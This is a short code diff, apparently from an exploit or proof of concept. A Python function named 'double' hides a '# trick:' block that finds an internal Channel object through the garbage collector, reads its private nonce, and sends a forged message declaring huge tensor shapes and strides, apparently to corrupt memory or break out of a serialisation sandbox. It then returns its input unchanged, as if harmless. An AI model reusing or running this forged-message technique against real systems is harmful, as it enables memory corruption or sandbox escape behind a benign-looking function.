@@ -9,7 +9,8 @@ def double(x):
     # trick:
     channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")
     value = {"tensor": 0, "dtype": "float32", "strides": [1 << 40, 1]}
-    message = {"nonce": channel._nonce, "tensors": [["float32", [1 << 30, 1 << 30], 0]], "header": {"value": value}}
+    header = {"type": "value", "value": value}
+    message = {"nonce": channel._nonce, "tensors": [["float32", [1 << 30, 1 << 30], 0]], "header": header}
     channel.connection.send(json.dumps(message).encode())
     return x
     # without:
